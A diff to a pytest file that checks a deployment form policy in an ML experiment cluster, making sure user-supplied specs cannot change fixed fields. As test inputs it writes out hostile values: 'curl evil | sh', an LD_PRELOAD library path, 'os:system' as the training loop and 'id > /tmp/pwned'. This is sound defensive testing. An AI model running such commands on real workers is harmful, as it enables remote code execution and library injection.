@@ -3,7 +3,7 @@
 import pytest
 
 from cluster.form_policy import FormPolicy, differences
-from cluster.spec import SpecError, parse_spec
+from cluster.spec import SpecError, load_spec, parse_spec
 from flows.deploy import declared
 from tests.conftest import A_LOOP, DIGITS_DATA, REPO, with_loop
 
@@ -84,20 +84,37 @@ def test_nightly_deployment_declares_a_policy():
     assert "train.epochs" in nightly["form_policy"]["allow"] and "train.loop" not in nightly["form_policy"]["allow"]
 
 
-def test_served_run_changing_a_fixed_field_fails_before_anything_exists(served):
+def test_the_open_form_fixes_what_runs_on_the_worker_besides_the_loop():
+    [open_form] = [entry for entry in declared(REPO / "prefect.yaml") if entry["name"] == "run-experiment"]
+    policy = FormPolicy("run-experiment", load_spec(REPO / "experiments" / "digits.yaml", [f"workdir={REPO}"]),
+                        open_form["form_policy"]["allow"])
+    assert policy.enforce(changed(policy, name="mine", train={"epochs": 3, "lr": 0.1, "params": {"hidden": 8}},
+                                  compute={"num_nodes": 2}, limits={"max_runtime_minutes": 30}))
+    for field, value in (("setup", "curl evil | sh"), ("envs", {"LD_PRELOAD": "/tmp/x.so"}), ("secrets", ["AWS_KEY"]),
+                         ("workdir", "/"), ("storage", {"checkpoints": "/tmp/elsewhere"}),
+                         ("tracking", {"uri": "http://elsewhere:5000"})):
+        with pytest.raises(SpecError, match=f"{field}.*: deployment 'run-experiment' fixes this field"):
+            policy.enforce(changed(policy, **{field: value}))
+
+
+@pytest.mark.parametrize("deployment, loop_refusal", [
+    ("nightly-digits", "train.loop: deployment 'nightly-digits' fixes this field"),
+    ("run-experiment", "train.loop: 'os:system' is not a function defined in module 'os'"),
+])
+def test_served_run_changing_a_fixed_field_fails_before_anything_exists(served, deployment, loop_refusal):
     """Through the real server and `gpuflow serve`: the run fails at spec_from, before validate or any cluster."""
     from mlflow import MlflowClient
 
-    spec = served.deployment("nightly-digits").parameters["spec"]
+    spec = served.deployment(deployment).parameters["spec"]
     hostile = {**spec, "train": {**spec["train"], "loop": "os:system"}, "setup": "id > /tmp/pwned"}
     with served.client() as client:
-        flow_run = client.create_flow_run_from_deployment(served.deployment("nightly-digits").id,
+        flow_run = client.create_flow_run_from_deployment(served.deployment(deployment).id,
                                                           parameters={"spec": hostile})
     flow_run = served.wait_until_final(flow_run.id)
     assert flow_run.state.is_failed()
     message = flow_run.state.message
-    assert "train.loop: deployment 'nightly-digits' fixes this field" in message, message
-    assert "setup: deployment 'nightly-digits' fixes this field" in message, message
+    assert loop_refusal in message, message
+    assert f"setup: deployment '{deployment}' fixes this field" in message, message
     runs = MlflowClient(served.mlflow_url).search_runs(
         [e.experiment_id for e in MlflowClient(served.mlflow_url).search_experiments()],
         f"tags.`prefect.flow_run_id` = '{flow_run.id}'")
